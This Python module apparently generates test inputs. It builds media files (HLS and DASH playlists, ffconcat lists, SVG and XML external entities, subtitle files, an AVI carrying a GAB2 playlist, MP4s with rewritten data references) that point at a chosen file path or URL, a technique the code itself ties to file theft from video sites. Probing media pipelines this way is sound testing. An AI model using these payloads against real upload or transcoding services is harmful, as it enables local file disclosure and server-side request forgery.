"""What looks like media and names other files and addresses: playlists, scripts, pictures and containers that refer."""

import struct
from collections.abc import Iterator

HLS = "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:9\n{head}#EXTINF:9,\n{target}\n#EXT-X-ENDLIST\n"
MASTER = '#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="n",URI="{target}"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO="a"\n{target}\n'
DASH = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S">'
    '<Period><AdaptationSet mimeType="video/mp4">'
    '<Representation id="0" bandwidth="1"><BaseURL>{target}</BaseURL><SegmentBase/></Representation></AdaptationSet></Period></MPD>'
)
TEXTS: dict[str, str] = {
    "hls": HLS.replace("{head}", ""),
    "hls-key": HLS.replace("{head}", '#EXT-X-KEY:METHOD=AES-128,URI="{target}"\n'),
    "hls-map": HLS.replace("{head}", '#EXT-X-MAP:URI="{target}"\n'),
    "hls-concat": HLS.replace("{head}", "").replace("{target}", "concat:{target}|{target}"),
    "hls-subfile": HLS.replace("{head}", "").replace("{target}", "subfile,,start,0,end,99,,:{target}"),
    "hls-crypto": HLS.replace("{head}", "").replace("{target}", "crypto+{target}"),
    "hls-master": MASTER,
    "concat": "ffconcat version 1.0\nfile '{target}'\n",
    "concat-option": "ffconcat version 1.0\nfile '{target}'\noption protocol_whitelist file,http,tcp\n",
    "dash": DASH,
    "dash-doctype": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{target}">]>'
    + DASH.partition("?>")[2].replace("{target}", "&e;"),
    "smooth": '<SmoothStreamingMedia MajorVersion="2" Duration="9"><StreamIndex Type="video" Url="{target}"/></SmoothStreamingMedia>',
    "imf": '<?xml version="1.0"?><AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><Path>{target}</Path></AssetMap>',
    "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:{target}\n"
    "m=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
    "svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">'
    '<image xlink:href="{target}" href="{target}"/></svg>',
    "svg-entity": '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "{target}">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>',
    "m3u": "#EXTM3U\n{target}\n",
    "pls": "[playlist]\nFile1={target}\nLength1=-1\nNumberOfEntries=1\nVersion=2\n",
    "asx": '<asx version="3.0"><entry><ref href="{target}"/></entry></asx>',
    "rtsp-redirect": "[Reference]\nRef1={target}\n",
    "srt": '1\n00:00:00,000 --> 00:00:09,000\n<img src="{target}">\n',
    "ass": "[Script Info]\nScriptType: v4.00+\n"
    "[Fonts]\nfontname: {target}\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,,,0,0,0,,{target}\n",
    "vobsub": "# VobSub index file, v7 (do not modify this line!)\n"
    "size: 9x9\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n",
    "ffmetadata": ";FFMETADATA1\ntitle={target}\n",
    "html": '<html><video src="{target}"></video></html>',
}


def avi_with_playlist(playlist: bytes) -> bytes:
    """A subtitle stream in an AVI (GAB2) that is itself a playlist: how files were stolen from video sites in 2017."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return name + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)

    def stream(kind: bytes, handler: bytes, described: bytes) -> bytes:
        head = kind + handler + struct.pack("<IHHIIIIIIIIhhhh", 0, 0, 0, 0, 1, 25, 0, 99, 9_999, 0, 0, 0, 0, 160, 90)
        return chunk(b"LIST", b"strl" + chunk(b"strh", head) + chunk(b"strf", described))

    bitmap = struct.pack("<IiiHH4sIiiII", 40, 160, 90, 1, 24, b"MJPG", 0, 0, 0, 0, 0)
    main = chunk(b"avih", struct.pack("<14I", 40_000, 0, 0, 0x10, 99, 0, 2, 0, 160, 90, 0, 0, 0, 0))
    header = chunk(b"LIST", b"hdrl" + main + stream(b"vids", b"MJPG", bitmap) + stream(b"txts", b"\0" * 4, b""))
    said = b"GAB2\0" + struct.pack("<HIH", 2, 2, 0) + b"\0\0" + struct.pack("<HI", 4, len(playlist)) + playlist
    movie = chunk(b"LIST", b"movi" + chunk(b"01tx", said) + chunk(b"00dc", b"\0" * 200) * 50)
    return b"RIFF" + struct.pack("<I", 4 + len(header) + len(movie)) + b"AVI " + header + movie


def box(name: bytes, body: bytes) -> bytes:
    """An ISO media box."""
    return struct.pack(">I4s", 8 + len(body), name) + body


def refer(film: bytes, target: str) -> bytes:
    """An MP4 whose samples are said to lie in another file (ISO 14496-12 §8.7.2): every data reference becomes that URL."""
    rewritten, at = b"", 0
    while at + 8 <= len(film):
        size, name = struct.unpack_from(">I4s", film, at)
        body = film[at + 8 : at + max(size, 8)]
        if name in {b"moov", b"trak", b"mdia", b"minf", b"dinf"}:
            body = refer(body, target)
        elif name == b"dref":
            body = bytes(4) + struct.pack(">I", 1) + box(b"url ", bytes(4) + target.encode() + b"\0")
        rewritten += box(name, body)
        at += max(size, 8)
    return rewritten


def lures(film: str, url: str, mp4: bytes) -> Iterator[tuple[str, bytes]]:
    """Every kind, after a file by path and by URL, and after an address."""
    for way, target in {"path": film, "file": f"file://{film}", "http": url, "tcp": url.replace("http", "tcp")}.items():
        for name, text in TEXTS.items():
            yield f"{name}-{way}", text.replace("{target}", target).encode()
        playlist = TEXTS["hls"].replace("{target}", target).encode()
        yield f"avi-gab2-{way}", avi_with_playlist(playlist)
        yield f"mp4-reference-{way}", refer(mp4, target)
        yield f"playlist-then-film-{way}", playlist + mp4
        yield f"film-then-playlist-{way}", mp4 + playlist
